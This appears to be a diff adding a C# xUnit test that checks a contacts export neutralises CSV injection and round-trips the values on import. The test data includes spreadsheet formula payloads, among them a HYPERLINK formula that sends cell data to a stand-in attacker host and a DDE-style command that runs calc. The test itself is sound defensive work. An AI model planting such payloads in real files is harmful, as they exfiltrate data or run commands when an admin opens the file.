@@ -163,4 +163,37 @@ public sealed class ImportTests(Servers servers)
             Assert.Equal(original[field]!.ToJsonString(), copy[field]!.ToJsonString());
         Assert.True(copy["optIns"]!["email"]!["optedIn"]!.GetValue<bool>());
     }
+
+    /// <summary>CSV injection: a customer picks their own name (a web-chat visitor types it), and the admin opens the export in
+    /// a spreadsheet next to banking columns. Every cell a spreadsheet would run is written as text, and imports back as it was.</summary>
+    [Theory, Providers]
+    public async Task CellsASpreadsheetWouldRun_AreExportedAsText_AndImportBackUnchanged(DatabaseProvider provider)
+    {
+        var factory = await servers.ForAsync(provider);
+        var source = await factory.CreateTenantAsync();
+        string[] formulas = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"];
+        for (var i = 0; i < formulas.Length; i++)
+        {
+            await source.Owner.PostJsonAsync("/api/v1/contacts", new
+            {
+                name = formulas[i], email = $"visitor{i}@example.com", customAttributes = new { note = formulas[i] },
+                banking = new { bankName = "Bank", accountNumber = "99887766" },
+            }, HttpStatusCode.Created);
+        }
+        var exported = await source.Owner.GetStringAsync("/api/v1/contacts/export");
+
+        using (var csv = new CsvHelper.CsvReader(new StringReader(exported), System.Globalization.CultureInfo.InvariantCulture))
+        {
+            var rows = csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToList();
+            Assert.Equal(formulas.Length, rows.Count);
+            Assert.Equal(formulas.Select(f => "'" + f).Order(), rows.Select(r => (string)r["name"]).Order());
+            Assert.All(rows.SelectMany(r => r.Values).OfType<string>(), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), cell));
+        }
+
+        var target = await factory.CreateTenantAsync();
+        var import = await UploadAsync(target.Owner, exported);
+        Assert.Equal(formulas.Length, (await WaitForAsync(target.Owner, import.Id()))["rowsCreated"]!.GetValue<long>());
+        var names = (await target.Owner.GetJsonAsync("/api/v1/contacts")).Items().Select(c => c!["name"]!.GetValue<string>());
+        Assert.Equal(formulas.Order(), names.Order());
+    }
 }
